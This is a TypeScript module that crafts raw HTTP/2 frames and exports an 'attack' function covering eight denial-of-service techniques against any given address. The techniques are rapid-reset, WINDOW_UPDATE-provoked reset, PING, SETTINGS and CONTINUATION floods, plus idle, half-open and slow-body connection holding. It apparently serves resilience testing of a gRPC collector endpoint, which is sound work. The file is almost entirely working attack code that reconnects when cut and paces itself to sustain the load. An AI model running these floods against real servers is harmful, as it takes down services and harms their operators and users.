// HTTP/2 as no library would speak it, frame by frame, and connections that say little or nothing.

import { connect, type Socket } from 'node:net';

export const KINDS = [
  'rapid reset',
  'resets that the server is made to send',
  'PING flood',
  'SETTINGS flood',
  'CONTINUATION flood',
  'idle connections',
  'half-open connections',
  'bodies byte by byte',
] as const;
export type Kind = (typeof KINDS)[number];

export interface Attack {
  readonly kind: Kind;
  readonly address: string;
  /** Frames, streams or connections, by kind. */
  readonly count: number;
  /** Connections that hold something are held for so long, ms. */
  readonly holdMs: number;
}

export interface Outcome {
  readonly sent: number;
  /** Connections that the other side ended. */
  readonly cut: number;
}

const TYPE = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, WINDOW_UPDATE: 8, CONTINUATION: 9 } as const;
const END_HEADERS = 4;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

/** What is written before the other side has taken it, at most, bytes. */
const UNSENT_MAX = 1024 * 1024;

/** Frames of one turn: in between the answers are read. */
const AT_ONCE = 200;

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const text = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);

/** POST of a Report stream: indexed fields of the static table, and literals that are not remembered. */
const REQUEST = Buffer.concat([
  Buffer.from([0x83, 0x86, 0x04]),
  text('/meshpulse.v1.Ingest/Report'),
  Buffer.from([0x01]),
  text('collector'),
  Buffer.from([0x0f, 0x10]),
  text('application/grpc'),
  Buffer.from([0x00]),
  text('te'),
  text('trailers'),
]);
const CANCEL = Buffer.from([0, 0, 0, 8]);
const NO_INCREMENT = Buffer.alloc(4);

class Line {
  readonly socket: Socket;
  over = false;

  constructor(address: string) {
    const [host, port] = address.split(':') as [string, string];
    this.socket = connect({ host, port: Number(port) });
    this.socket.on('error', () => undefined);
    this.socket.on('close', () => (this.over = true));
    this.socket.resume();
  }

  begin(): this {
    this.socket.write(PREFACE);
    this.socket.write(frame(TYPE.SETTINGS, 0, 0));
    return this;
  }
}

const turn = (): Promise<void> => new Promise(resolve => setImmediate(resolve));
const pause = (ms: number): Promise<void> => new Promise(resolve => setTimeout(resolve, ms));

/** `count` times what `make` says, on as many connections as that takes: a cut one is followed by another. */
async function flood(address: string, count: number, make: (nth: number) => Buffer, inOne = count): Promise<Outcome> {
  let line = new Line(address).begin();
  let [cut, nth] = [0, 0];
  for (let sent = 0; sent < count; sent++, nth++) {
    if (line.over || nth >= inOne) {
      cut += line.over ? 1 : 0;
      line.socket.destroy();
      line = new Line(address).begin();
      nth = 0;
    }
    line.socket.write(make(nth));
    if (sent % AT_ONCE === 0) await turn();
    while (!line.over && line.socket.writableLength > UNSENT_MAX) await pause(1);
  }
  await pause(50);
  line.socket.destroy();
  return { sent: count, cut };
}

/** Opens `count` connections, a hundred at a time, and holds them. */
async function hold(attack: Attack, first: (line: Line) => void, then: (lines: Line[]) => void): Promise<Outcome> {
  const lines: Line[] = [];
  while (lines.length < attack.count) {
    for (let n = 0; n < 100 && lines.length < attack.count; n++) {
      const line = new Line(attack.address);
      first(line);
      lines.push(line);
    }
    await pause(10);
  }
  for (const endMs = performance.now() + attack.holdMs; performance.now() < endMs; await pause(100)) then(lines);
  const cut = lines.filter(line => line.over).length;
  for (const { socket } of lines) socket.destroy();
  return { sent: lines.length, cut };
}

export function attack(what: Attack): Promise<Outcome> {
  const { kind, address, count } = what;
  const stream = (nth: number): number => 2 * nth + 1;
  switch (kind) {
    case 'rapid reset':
      return flood(address, count, nth =>
        Buffer.concat([
          frame(TYPE.HEADERS, END_HEADERS, stream(nth), REQUEST),
          frame(TYPE.RST_STREAM, 0, stream(nth), CANCEL),
        ]),
      );
    case 'resets that the server is made to send':
      return flood(address, count, nth =>
        Buffer.concat([
          frame(TYPE.HEADERS, END_HEADERS, stream(nth), REQUEST),
          frame(TYPE.WINDOW_UPDATE, 0, stream(nth), NO_INCREMENT),
        ]),
      );
    case 'PING flood':
      return flood(address, count, () => frame(TYPE.PING, 0, 0, Buffer.alloc(8)));
    case 'SETTINGS flood':
      return flood(address, count, () => frame(TYPE.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0])));
    case 'CONTINUATION flood':
      return flood(address, count, nth =>
        nth === 0 ? frame(TYPE.HEADERS, 0, 1, REQUEST) : frame(TYPE.CONTINUATION, 0, 1, Buffer.alloc(1000, 0x82)),
      );
    case 'idle connections':
      return hold(
        what,
        line => void line.begin(),
        () => undefined,
      );
    case 'half-open connections':
      return hold(
        what,
        line => void line.socket.write(PREFACE.subarray(0, 10)),
        () => undefined,
      );
    case 'bodies byte by byte':
      return hold(
        what,
        line => {
          line.begin().socket.write(frame(TYPE.HEADERS, END_HEADERS, 1, REQUEST));
          line.socket.write(frame(TYPE.DATA, 0, 1, Buffer.from([0, 0, 1, 0, 0])));
        },
        lines => {
          for (const { socket, over } of lines) if (!over) socket.write(frame(TYPE.DATA, 0, 1, Buffer.from([0x0a])));
        },
      );
  }
}
